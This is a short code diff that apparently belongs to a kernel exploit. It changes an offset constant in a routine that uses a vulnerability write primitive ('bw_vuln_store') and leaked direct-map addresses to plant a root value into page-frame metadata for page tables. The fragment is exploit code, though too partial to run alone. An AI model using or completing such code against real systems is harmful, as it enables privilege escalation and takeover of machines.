@@ -2,7 +2,7 @@
  */
 #include "attack.h"
 
-enum { LEVELS = 4, ENTRIES = 512, FRAME_BYTES = 8 };
+enum { LEVELS = 4, ENTRIES = 512, FRAME_BYTES = 8, FRAME_NUMBER = 4 };
 #define PRESENT_USER 5ul
 #define LARGE 0x80ul
 
@@ -74,7 +74,7 @@ void attack_note_root(const struct bw_leak *leak, const struct attack_page *page
 		uint64_t table = (pages[i].place - leak->direct_map_base) / BW_PAGE_SIZE;
 
 		if (table != before) {
-			bw_vuln_store(leak->frames + table * FRAME_BYTES + FRAME_LINKS, root,
+			bw_vuln_store(leak->frames + table * FRAME_BYTES + FRAME_NUMBER, root,
 				      sizeof(uint32_t));
 			before = table;
 		}
